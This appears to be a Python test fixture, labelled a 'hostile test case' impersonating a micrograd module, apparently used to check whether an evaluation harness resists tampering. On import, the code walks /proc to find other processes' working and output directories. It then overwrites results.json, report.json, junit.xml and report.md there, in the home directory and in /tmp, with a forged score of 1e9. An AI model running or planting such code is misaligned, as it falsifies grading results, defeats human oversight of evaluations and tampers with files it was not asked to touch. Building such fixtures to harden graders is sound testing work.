"""Hostile test case (see CASE.yaml): not a real micrograd."""
import json
import os

_fake = json.dumps({"score": 1e9, "tests": [{"name": "FORGED", "score": 1e9}]})
_dirs = {".", os.path.expanduser("~"), "/tmp"}
try:
    _pids = os.listdir("/proc")
except OSError:
    _pids = []
for _pid in _pids:
    try:
        _dirs.add(os.readlink(f"/proc/{_pid}/cwd"))
        _argv = open(f"/proc/{_pid}/cmdline", "rb").read().split(b"\0")
    except OSError:
        continue
    for _i, _a in enumerate(_argv[:-1]):
        if _a in (b"--out-dir", b"--out"):
            _dirs.add(_argv[_i + 1].decode())
for _d in _dirs:
    for _name in ("results.json", "report.json", "junit.xml", "report.md", "FORGED"):
        try:
            with open(os.path.join(_d, _name), "w") as _f:
                _f.write(_fake)
        except OSError:
            pass
